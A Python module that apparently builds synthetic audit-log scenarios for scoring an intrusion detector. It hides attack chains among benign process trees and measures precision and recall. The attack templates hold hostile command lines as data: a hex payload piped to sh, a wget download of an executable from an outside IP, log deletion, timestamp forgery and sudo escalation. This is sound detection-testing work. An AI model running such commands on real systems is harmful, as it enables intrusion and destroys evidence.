"""Seeded synthetic audit scenarios with ground truth, and detection metrics."""

from __future__ import annotations

import json
import random
from dataclasses import dataclass, field
from enum import Enum
from pathlib import Path
from typing import Iterable, Optional, Sequence, Union

from .graph import Edge, make_node_id
from .ingest import AuditEvent, EventKind, render_event

BASE_TS = 1_700_000_000_000_000_000
SECOND = 1_000_000_000


class UnknownKind(ValueError):
    pass


class ScenarioKind(str, Enum):
    TURLA_CHAIN = "TurlaChain"
    HEX_TRANSFORM = "HexTransform"
    BASE64_BACKDOOR = "Base64Backdoor"
    LOG_DELETION = "LogDeletion"
    TIMESTAMP_FORGERY = "TimestampForgery"
    PRIV_ESCALATION = "PrivEscalation"

    @classmethod
    def parse(cls, value: Union[str, "ScenarioKind"]) -> "ScenarioKind":
        if isinstance(value, cls):
            return value
        aliases = {k.value.lower(): k for k in cls}
        aliases.update({k.name.lower(): k for k in cls})
        aliases.update(dict(zip("abcdef", cls)))
        try:
            return aliases[str(value).lower()]
        except KeyError:
            raise UnknownKind(f"unknown scenario kind {value!r}") from None


def hex_encode(text: str) -> str:
    return text.encode("ascii").hex().upper()


HEX_SED = hex_encode("s/[[:blank:]]\\+/ /g")
HEX_GTCACHE = hex_encode("./gtcache &> /dev/null &")


@dataclass
class Scenario:
    name: str
    kind: ScenarioKind
    seed: int
    scale: int
    events: list[AuditEvent]
    attack_nodes: set[str]
    attack_edges: set[Edge]
    markers: list[str]

    def truth_dict(self) -> dict:
        return {
            "name": self.name,
            "kind": self.kind.value,
            "seed": self.seed,
            "scale": self.scale,
            "attack_nodes": sorted(self.attack_nodes),
            "attack_edges": [list(e) for e in sorted(self.attack_edges)],
            "markers": list(self.markers),
        }

    def write(self, events_path: Union[str, Path], truth_path: Union[str, Path]) -> None:
        Path(events_path).write_text("".join(render_event(e) + "\n" for e in self.events), encoding="utf-8")
        Path(truth_path).write_text(json.dumps(self.truth_dict(), indent=2, sort_keys=True), encoding="utf-8")


@dataclass
class Truth:
    attack_nodes: set[str]
    attack_edges: set[Edge]
    markers: list[str]

    @classmethod
    def load(cls, path: Union[str, Path]) -> "Truth":
        doc = json.loads(Path(path).read_text(encoding="utf-8"))
        return cls(
            attack_nodes=set(doc["attack_nodes"]),
            attack_edges={tuple(e) for e in doc["attack_edges"]},
            markers=list(doc.get("markers", [])),
        )


# A process template is (image, cmdline, children, endpoints). ``None`` as
# the cmdline means the process logs an empty command-line. Templates are
# attached either to a long-lived hub process (by hub key) or emitted as a
# root of their own (hub key ``None``).

def _p(image, cmdline=None, children=(), endpoints=()):
    return (image, cmdline, list(children), list(endpoints))


WIN_HUBS = {
    "explorer": _p("explorer.exe", "C:\\Windows\\Explorer.EXE"),
    "services": _p("services.exe"),
    "svchost": _p("svchost.exe", "C:\\Windows\\system32\\svchost.exe -k DcomLaunch -p"),
}

LINUX_HUBS = {
    "sshd": _p("sshd", "/usr/sbin/sshd -D"),
    "cron": _p("cron", "/usr/sbin/cron -f"),
    # prefork master with its initial worker pool
    "apache2": _p("apache2", "/usr/sbin/apache2 -k start", [_p("apache2", "/usr/sbin/apache2 -k start")] * 3),
    "dockerd": _p("dockerd", "/usr/bin/dockerd -H fd://"),
    "gnome-shell": _p("gnome-shell", "/usr/bin/gnome-shell"),
}

WIN_BENIGN = [
    (None, _p("winlogon.exe", None, [_p("dwm.exe"), _p("fontdrvhost.exe")])),
    (None, _p("backgroundTaskHost.exe")),
    (None, _p("smss.exe", None, [_p("csrss.exe"), _p("wininit.exe")])),
    ("services", _p("svchost.exe", None, [_p("audiodg.exe")])),
    ("services", _p("spoolsv.exe")),
    ("services", _p("MsMpEng.exe", None, [], ["10.0.0.5:443"])),
    ("services", _p("svchost.exe", "svchost.exe -k netsvcs -p", [
        _p("taskhostw.exe", "taskhostw.exe", [
            _p("MpCmdRun.exe", "MpCmdRun.exe -IdleTask -TaskName WdCacheMaintenance", [
                _p("conhost.exe", "conhost.exe 0xffffffff -ForceV1"),
            ]),
        ]),
    ])),
    ("svchost", _p("WmiPrvSE.exe", "C:\\Windows\\system32\\wbem\\wmiprvse.exe -Embedding")),
    ("svchost", _p("RuntimeBroker.exe", "C:\\Windows\\System32\\RuntimeBroker.exe -Embedding")),
    ("explorer", _p("chrome.exe", '"chrome.exe" --profile-directory=Default', [
        _p("chrome.exe", '"chrome.exe" --type=renderer --lang=en-US', [], ["142.250.72.14:443"]),
        _p("chrome.exe", '"chrome.exe" --type=gpu-process'),
        _p("chrome.exe", '"chrome.exe" --type=utility --utility-sub-type=network.mojom.NetworkService', [], ["10.0.0.1:53"]),
    ], ["142.250.72.14:443"])),
    ("explorer", _p("outlook.exe", '"OUTLOOK.EXE" /recycle', [], ["52.96.0.10:443"])),
    ("explorer", _p("cmd.exe", 'cmd.exe /c "dir C:\\Users\\alice\\Documents"', [
        _p("conhost.exe", "conhost.exe 0xffffffff -ForceV1"),
    ])),
    ("explorer", _p("cmd.exe", "cmd.exe /c ipconfig /all", [_p("ipconfig.exe", "ipconfig /all")])),
    ("explorer", _p("cmd.exe", "cmd.exe /c build.bat Release", [
        _p("msbuild.exe", "MSBuild.exe App.sln /p:Configuration=Release /m", [
            _p("msbuild.exe", "MSBuild.exe /nodemode:1 /nologo", [
                _p("csc.exe", "csc.exe /noconfig /nowarn:1701 @obj\\Release\\App.csproj.rsp", [
                    _p("cvtres.exe", "cvtres.exe /NOLOGO /READONLY /MACHINE:IX86 /OUT:obj\\Release\\RES1.tmp"),
                ]),
            ]),
        ]),
    ])),
    ("explorer", _p("powershell.exe", "powershell.exe -Command Get-ChildItem C:\\Users\\alice\\Downloads")),
    ("explorer", _p("notepad.exe", "notepad.exe C:\\Users\\alice\\Documents\\todo.txt")),
    ("explorer", _p("Teams.exe", "Teams.exe --system-initiated", [
        _p("Teams.exe", "Teams.exe --type=renderer", [], ["52.112.0.20:443"]),
    ])),
    ("explorer", _p("msiexec.exe", "msiexec.exe /i C:\\Users\\alice\\Downloads\\7z2301-x64.msi", [
        _p("msiexec.exe", "msiexec.exe -Embedding 4F2C", [
            _p("rundll32.exe", "rundll32.exe C:\\Windows\\Installer\\MSI4F2C.tmp,zzzzInvokeManagedCustomActionOutOfProc", [
                _p("conhost.exe", "conhost.exe 0xffffffff -ForceV1"),
            ]),
        ]),
    ])),
]


def _session(user: str, commands: list) -> tuple:
    return _p("sshd", f"sshd: {user} [priv]", [_p("sshd", f"sshd: {user}@pts/0", [_p("bash", "-bash", commands)])])


LINUX_BENIGN = [
    (None, _p("systemd-journald")),
    (None, _p("rsyslogd", None, [_p("rsyslogd")])),
    (None, _p("dbus-daemon", None, [_p("polkitd")])),
    (None, _p("kworker", None, [_p("kworker"), _p("kworker")])),
    ("cron", _p("sh", "/bin/sh -c test -x /usr/sbin/anacron || run-parts /etc/cron.daily", [
        _p("run-parts", "run-parts /etc/cron.daily", [
            _p("logrotate", "/usr/sbin/logrotate /etc/logrotate.conf", [_p("gzip", "gzip -9 /var/log/syslog.1")]),
            _p("man-db", "/etc/cron.daily/man-db"),
        ]),
    ])),
    ("cron", _p("sh", "/bin/sh -c /usr/local/bin/backup.sh", [
        _p("backup.sh", "/bin/bash /usr/local/bin/backup.sh", [
            _p("tar", "tar -czf /backup/home.tar.gz /home", [_p("gzip", "gzip")]),
            _p("rsync", "rsync -a /backup/ backup01:/srv/backup/", [], ["10.0.0.20:873"]),
        ]),
    ])),
    ("sshd", _session("alice", [
        _p("ls", "ls -la"),
        _p("git", "git status"),
        _p("vim", "vim README.md"),
        _p("grep", "grep -rn TODO src"),
        _p("make", "make -j4", [
            _p("gcc", "gcc -O2 -c main.c -o main.o", [
                _p("cc1", "/usr/lib/gcc/x86_64-linux-gnu/11/cc1 -quiet main.c", [
                    _p("as", "as --64 -o main.o /tmp/ccX1.s"),
                ]),
            ]),
        ]),
    ])),
    ("sshd", _session("bob", [
        _p("df", "df -h"),
        _p("ps", "ps aux"),
        _p("top", "top -b -n 1"),
        _p("python3", "python3 manage.py migrate", [], ["127.0.0.1:5432"]),
    ])),
    ("sshd", _session("deploy", [
        _p("git", "git pull --ff-only", [_p("ssh", "ssh git@github.com git-upload-pack", [], ["140.82.112.3:22"])]),
        _p("systemctl", "systemctl restart app.service"),
        _p("journalctl", "journalctl -u app.service -n 50"),
    ])),
    ("cron", _p("sh", "/bin/sh -c apt-get -qq update", [
        _p("apt-get", "apt-get -qq update", [_p("http", "/usr/lib/apt/methods/http", [], ["91.189.91.39:80"])]),
    ])),
    ("gnome-shell", _p("firefox", "/usr/lib/firefox/firefox", [
        _p("firefox", "/usr/lib/firefox/firefox -contentproc -childID 1 -isForBrowser tab", [], ["93.184.216.34:443"]),
        _p("firefox", "/usr/lib/firefox/firefox -contentproc -parentBuildID 2023 socket", [], ["127.0.0.53:53"]),
    ])),
    (None, _p("python3", "python3 manage.py runserver 127.0.0.1:8000", [], ["127.0.0.1:5432"])),
    ("dockerd", _p("containerd-shim", "containerd-shim -namespace moby -id 4a1f", [
        _p("runc", "runc init", [_p("postgres", "postgres -D /var/lib/postgresql/data")]),
    ])),
]


def _attack_chain(kind: ScenarioKind) -> tuple[Optional[str], bool, tuple, list[str]]:
    """Attack tree for ``kind``: (hub key, hub is part of the attack, tree, markers)."""
    if kind is ScenarioKind.TURLA_CHAIN:
        tree = _p("powershell.exe", "powershell.exe -NoP -NonI -W Hidden -Exec Bypass -File C:\\Users\\Public\\upd.ps1", [
            _p("csc.exe", '/noconfig /fullpaths @"C:\\Users\\alice\\AppData\\Local\\Temp\\4krwc2ua.cmdline"', [
                _p("cvtres.exe", "cvtres.exe /NOLOGO /READONLY /MACHINE:IX86 /OUT:C:\\Users\\alice\\AppData\\Local\\Temp\\RES5E1.tmp"),
                _p("WMI.exe", "tasklist"),
                _p("WMI.exe", "systeminfo"),
            ], ["154.26.156.62:4444"]),
            _p("whoami.exe", "whoami /all"),
        ])
        return "explorer", True, tree, ["4krwc2ua.cmdline", "tasklist"]
    if kind is ScenarioKind.HEX_TRANSFORM:
        tree = _p("sshd", "sshd: root@notty", [
            _p("bash", f"bash -c id; uname -a; echo {HEX_SED} | xxd -r -p > /tmp/.s; sed -f /tmp/.s -i /tmp/.payload", [
                _p("id", "id"),
                _p("uname", "uname -a"),
                _p("xxd", "xxd -r -p"),
                _p("sed", "sed -f /tmp/.s -i /tmp/.payload"),
            ]),
        ], ["185.220.101.4:22"])
        return "sshd", False, tree, [HEX_SED]
    if kind is ScenarioKind.BASE64_BACKDOOR:
        tree = _p("apache2", "/usr/sbin/apache2 -k start", [
            _p("sh", f"sh -c echo {HEX_GTCACHE} | xxd -r -p | sh", [
                _p("xxd", "xxd -r -p"),
                _p("sh", "sh", [
                    _p("gtcache", "./gtcache", [], ["45.77.12.9:8443"]),
                ]),
                _p("id", "id"),
                _p("uname", "uname -a"),
            ]),
        ])
        return "apache2", False, tree, [HEX_GTCACHE]
    if kind is ScenarioKind.LOG_DELETION:
        tree = _p("sshd", "sshd: root@notty", [
            _p("bash", "bash -c w; clear_console -q; rm -f /var/log/auth.log /var/log/wtmp", [
                _p("w", "w"),
                _p("clear_console", "clear_console -q"),
                _p("rm", "rm -f /var/log/auth.log /var/log/wtmp"),
            ]),
        ], ["185.220.101.4:22"])
        return "sshd", False, tree, ["clear_console"]
    if kind is ScenarioKind.TIMESTAMP_FORGERY:
        tree = _p("sshd", "sshd: root@notty", [
            _p("bash", 'bash -c wget -q http://45.77.12.9/tcexec -O /tmp/tcexec; touch -d "$(date -d null +%s)" /tmp/tcexec; ls -la --time-style=full-iso /tmp', [
                _p("wget", "wget -q http://45.77.12.9/tcexec -O /tmp/tcexec", [], ["45.77.12.9:80"]),
                _p("date", "date -d null +%s"),
                _p("touch", "touch -d @0 /tmp/tcexec"),
                _p("ls", "ls -la --time-style=full-iso /tmp"),
            ]),
        ], ["185.220.101.4:22"])
        return "sshd", False, tree, ["date -d null +%s"]
    if kind is ScenarioKind.PRIV_ESCALATION:
        tree = _p("sshd", "sshd: www-data@notty", [
            _p("bash", "bash -c sudo -n sh -c 'chmod +x tcexec'; ./tcexec; id", [
                _p("sudo", "sudo -n sh -c chmod +x tcexec", [
                    _p("chmod", "chmod +x tcexec"),
                ]),
                _p("tcexec", "./tcexec"),
                _p("id", "id"),
            ]),
        ], ["185.220.101.4:22"])
        return "sshd", False, tree, ["chmod +x tcexec"]
    raise UnknownKind(f"unknown scenario kind {kind!r}")


def _tree_size(tree: tuple) -> int:
    return 1 + sum(_tree_size(c) for c in tree[2])


class _Emitter:
    def __init__(self, host: str, rng: random.Random):
        self.host = host
        self.rng = rng
        self.events: list[AuditEvent] = []
        self.next_pid = 1000
        self.seq = 0

    def _eid(self) -> str:
        self.seq += 1
        return f"{self.host}-{self.seq:06d}"

    def emit_tree(self, tree: tuple, ppid: int, ts: int) -> tuple[list[str], list[Edge]]:
        """Emit a process tree; return created node ids and parent-child edges."""
        image, cmdline, children, endpoints = tree
        self.next_pid += self.rng.randint(1, 7)
        pid = self.next_pid
        self.events.append(AuditEvent(
            event_id=self._eid(), kind=EventKind.PROCESS_START, ts=ts, host=self.host,
            pid=pid, ppid=ppid, image=image, cmdline=cmdline or "",
        ))
        nid = make_node_id(self.host, pid, ts)
        nodes, edges = [nid], []
        t = ts
        for ep in endpoints:
            t += self.rng.randint(1, 50) * 1_000_000
            self.events.append(AuditEvent(
                event_id=self._eid(), kind=EventKind.NET_CONNECT, ts=t, host=self.host,
                pid=pid, image=image, remote=ep,
            ))
        for child in children:
            t += self.rng.randint(5, 900) * 1_000_000
            sub_nodes, sub_edges = self.emit_tree(child, pid, t)
            edges.append((nid, sub_nodes[0]))
            nodes.extend(sub_nodes)
            edges.extend(sub_edges)
        return nodes, edges


def _jitter(tree: tuple, rng: random.Random) -> tuple:
    """Randomly repeat children of a template tree, or drop leaf children (seeded)."""
    image, cmdline, children, endpoints = tree
    kids = []
    for c in children:
        # only leaves may be dropped; inner structure of a template is kept
        weights = (1, 6, 2) if not c[2] else (0, 6, 2)
        copies = rng.choices((0, 1, 2), weights=weights)[0]
        kids.extend(_jitter(c, rng) for _ in range(copies))
    return (image, cmdline, kids, list(endpoints))


def generate_scenario(
    kind: Union[str, ScenarioKind],
    seed: int = 0,
    scale: int = 200,
    host: Optional[str] = None,
) -> Scenario:
    """Benign background plus one injected attack chain.

    ``scale`` is the number of benign process nodes, hubs included; the
    attack chain comes on top. The default of 200 against a four-node chain
    gives the usual 50:1 benign-to-attack ratio.
    """
    kind = ScenarioKind.parse(kind)
    if scale < 10:
        raise ValueError("scale must be >= 10")
    rng = random.Random(f"{kind.value}:{seed}:{scale}")
    windows = kind is ScenarioKind.TURLA_CHAIN
    host = host or ("ws-%02d" % (seed % 100) if windows else "srv-%02d" % (seed % 100))
    hubs = WIN_HUBS if windows else LINUX_HUBS
    library = WIN_BENIGN if windows else LINUX_BENIGN
    hub_key, hub_in_attack, chain, markers = _attack_chain(kind)
    em = _Emitter(host, rng)

    ts = BASE_TS + rng.randint(0, SECOND)
    hub_pid: dict[str, int] = {}
    hub_node: dict[str, str] = {}
    for key in sorted(hubs):
        nodes, _ = em.emit_tree(hubs[key], 0, ts)
        hub_node[key] = nodes[0]
        hub_pid[key] = int(nodes[0].rsplit(":", 2)[1])
        ts += rng.randint(1, 1000) * 1_000_000

    target_benign = scale - sum(_tree_size(t) for t in hubs.values()) + (1 if hub_in_attack else 0)
    benign: list[tuple] = []
    count = 0
    while count < target_benign:
        hub, tree = rng.choice(library)
        tree = _jitter(tree, rng)
        size = _tree_size(tree)
        if count + size > target_benign and count > 0:
            # pad with a lone cmdline-free service to land near the target
            hub, tree, size = None, _p(rng.choice(library)[1][0]), 1
        benign.append((hub, tree))
        count += size

    span = 600 * SECOND
    step = span // max(1, len(benign) + 1)
    attack_at = rng.randint(len(benign) // 3, max(len(benign) // 3, 2 * len(benign) // 3))
    attack_nodes: list[str] = []
    attack_edges: list[Edge] = []
    for i, item in enumerate(benign + [None]):
        if i == attack_at:
            nodes, edges = em.emit_tree(chain, hub_pid[hub_key], ts + rng.randint(0, step // 2))
            attack_nodes, attack_edges = nodes, edges
            if hub_in_attack:
                attack_nodes = [hub_node[hub_key]] + nodes
                attack_edges = [(hub_node[hub_key], nodes[0])] + edges
        if item is not None:
            hub, tree = item
            em.emit_tree(tree, hub_pid[hub] if hub else 0, ts)
        ts += step + rng.randint(0, step // 4)

    events = sorted(em.events, key=lambda e: (e.ts, e.event_id))
    return Scenario(
        name=f"{kind.value}-s{seed}-n{scale}",
        kind=kind,
        seed=seed,
        scale=scale,
        events=events,
        attack_nodes=set(attack_nodes),
        attack_edges=set(attack_edges),
        markers=markers,
    )


# -- metrics -------------------------------------------------------------------


class MetricLevel(str, Enum):
    NODE = "node"
    PATH = "path"
    TTP = "ttp"


@dataclass(frozen=True)
class Metrics:
    precision: float
    recall: float
    f1: float
    level: MetricLevel

    @classmethod
    def from_pr(cls, precision: float, recall: float, level: MetricLevel) -> "Metrics":
        f1 = 0.0 if precision + recall == 0 else 2 * precision * recall / (precision + recall)
        return cls(precision, recall, f1, level)

    def to_dict(self) -> dict:
        return {"level": self.level.value, "precision": self.precision, "recall": self.recall, "f1": self.f1}


def _alarm_nodes(alarm) -> list[str]:
    return list(alarm["nodes"] if isinstance(alarm, dict) else alarm.infopath.nodes)


def _alarm_cmdlines(alarm) -> list[str]:
    if isinstance(alarm, dict):
        return [c for step in alarm.get("chain", []) for c in step.get("cmdlines", [])]
    return [c for cs in alarm.cmdlines for c in cs]


def score(alarms: Sequence, truth: Union[Scenario, Truth], level: Union[str, MetricLevel] = MetricLevel.NODE) -> Metrics:
    """Precision / recall / F1 of alarms against ground truth.

    ``alarms`` may be :class:`~cliprov.report.SnapshotAlarm` objects or
    their JSON dictionaries as written in a report.
    """
    level = MetricLevel(level)
    if level is MetricLevel.NODE:
        predicted = {n for a in alarms for n in _alarm_nodes(a)}
        tp = len(predicted & truth.attack_nodes)
        p = tp / len(predicted) if predicted else 0.0
        r = tp / len(truth.attack_nodes) if truth.attack_nodes else 0.0
        return Metrics.from_pr(p, r, level)
    if level is MetricLevel.PATH:
        hits = []
        covered: set[Edge] = set()
        for a in alarms:
            nodes = _alarm_nodes(a)
            edges = set(zip(nodes, nodes[1:]))
            hit = edges & truth.attack_edges
            hits.append(bool(hit))
            covered |= hit
        p = sum(hits) / len(hits) if hits else 0.0
        r = len(covered) / len(truth.attack_edges) if truth.attack_edges else 0.0
        return Metrics.from_pr(p, r, level)
    texts = [c for a in alarms for c in _alarm_cmdlines(a)]
    found = [m for m in truth.markers if any(m in t for t in texts)]
    r = len(found) / len(truth.markers) if truth.markers else 0.0
    if texts:
        marked = sum(1 for a in alarms if any(m in c for c in _alarm_cmdlines(a) for m in truth.markers))
        p = marked / len(alarms)
    else:
        p = 0.0
    return Metrics.from_pr(p, r, level)
